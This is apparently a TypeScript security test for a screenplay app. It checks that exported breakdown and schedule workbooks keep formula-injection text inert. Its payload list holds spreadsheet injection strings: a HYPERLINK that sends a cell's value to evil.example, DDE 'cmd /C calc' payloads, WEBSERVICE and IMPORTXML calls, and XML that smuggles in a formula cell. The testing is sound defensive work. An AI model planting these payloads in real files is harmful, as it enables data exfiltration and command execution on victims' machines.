import { spawnSync } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { readXlsx } from "hucre/xlsx";
import { findDirectory, readDirectory, unpack } from "../../server/engines/word/open-zip.ts";
import { addElement, linkElement, setSceneField } from "../../shared/breakdown/breakdown-document.ts";
import { documentName } from "../../shared/documents/names.ts";
import { setBanner } from "../../shared/schedule/schedule-document.ts";
import { type Person, startApp, type TestApp } from "../harness/start-app.ts";
import { temporaryFolder } from "../harness/temporary-folder.ts";
import { type Proof, until, withEnds } from "./proof.ts";

/** Each begins with a sign that makes a spreadsheet reckon: = + - @, tab, carriage return, their wide forms, or what hides one. */
const formulas = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "=cmd|'/C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  "＠SUM(1)",
  '=WEBSERVICE("http://evil.example")',
  '=IMPORTXML("http://evil.example","//a")',
  '=DDE("cmd","/C calc","x")',
  "';=1+1",
  '"=1+1',
  "<f>1+1</f>",
  '</t></is></c><c t="str"><f>1+1</f><v>2</v></c>',
  "_x003D_1+1",
];

export const proof: Proof = {
  id: "S7",
  what: `${formulas.length} texts that a spreadsheet would reckon, as title, scene, character, element, note and banner, in every workbook`,
  limit: "0 formulas, links or parts of other programs in any workbook; every text is text, and read back as it was",
  run: () =>
    withEnds(async (ends) => {
      const app = await startApp();
      ends.add(() => app.close());
      const ann = await app.person("Ann");
      const folder = temporaryFolder();
      ends.add(folder.remove);
      const scriptId = await poisoned(app, ann);
      const wrong: string[] = [];
      let [cells, books] = [0, 0];
      for (const kind of ["breakdown", "schedule"]) {
        const bytes = await workbook(app, ann, scriptId, kind);
        books += 1;
        const parts = partsOf(Buffer.from(bytes));
        for (const [name, text] of parts) {
          if (/externalLink|vbaProject|connections|oleObject|ddeLink/i.test(name)) wrong.push(`${kind}: ${name}`);
          if (/<f[ >/]/.test(text)) wrong.push(`${kind}: a formula in ${name}`);
          if (/TargetMode="External"|<hyperlink/i.test(text)) wrong.push(`${kind}: a link in ${name}`);
        }
        const { sheets } = await readXlsx(bytes);
        const texts = sheets.flatMap(({ rows }) => rows.flat()).filter((cell) => typeof cell === "string");
        cells += texts.length;
        const whole = texts.join("\n");
        for (const formula of kind === "breakdown" ? formulas : []) {
          const kept = formula.replace(/\r\n?/g, "\n").trim();
          if (!whole.includes(kept)) wrong.push(`${kind}: ${JSON.stringify(kept)} is gone`);
        }
        const office = opened(folder.path, kind, bytes);
        if (office !== null && !formulas.slice(0, 5).some((formula) => office.includes(formula.slice(1, 9))))
          wrong.push(`${kind}: LibreOffice reads something else`);
      }
      return {
        figure: `${books} workbooks, ${cells} texts, ${wrong.length} wrong ${wrong.slice(0, 3).join("; ")}`.trim(),
        pass: wrong.length === 0,
      };
    }),
};

/** A script of whose words, elements, notes and banners every one is a formula. */
async function poisoned(app: TestApp, ann: Person): Promise<string> {
  const project = (await ann.request("POST", "/projects", { name: formulas[0] })).body.id;
  const scene = (formula: string, n: number) =>
    `.INT. ${formula.replace(/[\r\n]/g, " ")} ${n} - DAY\n\n@${formula.replace(/[\r\n(]/g, " ").trim()}\nTea?\n`;
  const text = formulas.map(scene).join("\n");
  const { body } = await ann.upload({ name: "=1+1.fountain.txt", bytes: text }, project);
  await ann.scriptOnceRead(body.id);
  const breakdown = documentName("breakdown", body.id);
  await app.services.documents.editDocument(breakdown, null, (doc, origin) => {
    for (const [n, formula] of formulas.entries()) {
      const id = `bad${n}`;
      addElement(doc, { id, name: formula, category: 104, quantity: formula, notes: formula }, origin);
      linkElement(doc, { sceneId: "S1", elementId: id }, origin);
      for (const field of ["location", "notes", "synopsis"] as const)
        setSceneField(doc, `S${n + 1}`, field, formula, origin);
    }
  });
  await app.services.documents.editDocument(documentName("schedule", body.id), null, (doc, origin) => {
    for (const [n, text] of formulas.entries())
      setBanner(doc, { id: `b${n}`, kind: "note", dayId: "none", key: "a0", minutes: 0, text }, origin);
  });
  return body.id;
}

async function workbook(app: TestApp, ann: Person, scriptId: string, kind: string): Promise<Uint8Array> {
  const asked = await ann.request("POST", `/scripts/${scriptId}/generate`, { output_type: kind });
  const task = async () => (await ann.request("GET", `/tasks/${asked.body.task_id}`)).body;
  await until("the workbook is made", async () => (await task()).status === "SUCCESS", 30_000, 30);
  const file = await fetch(app.url + (await task()).result.files[0].url);
  return new Uint8Array(await file.arrayBuffer());
}

/** The files inside an archive, by name, as text. */
function partsOf(archive: Buffer): Map<string, string> {
  const directory = findDirectory(archive);
  if (!directory) throw new Error("the workbook is no archive");
  const entries = readDirectory(archive.subarray(directory.offset, directory.offset + directory.size));
  return new Map(entries.map((entry) => [entry.name, unpack(archive, entry, 64 * 1024 * 1024).toString("utf8")]));
}

/** What LibreOffice makes of a workbook's first sheet, as CSV; null where there is none. */
function opened(folder: string, name: string, bytes: Uint8Array): string | null {
  const at = path.join(folder, `${name}.xlsx`);
  writeFileSync(at, bytes);
  const made = spawnSync("soffice", ["--headless", "--convert-to", "csv", "--outdir", folder, at], { timeout: 60_000 });
  return made.status === 0 ? readFileSync(path.join(folder, `${name}.csv`), "utf8") : null;
}
